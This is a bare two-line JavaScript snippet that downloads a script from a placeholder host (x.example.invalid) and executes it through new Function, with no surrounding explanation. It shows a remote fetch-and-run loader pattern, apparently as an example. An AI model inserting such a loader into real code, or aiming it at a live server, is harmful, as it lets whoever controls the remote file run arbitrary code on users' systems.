const src = await (await fetch('https://x.example.invalid/m.js')).text();
new Function(src)();
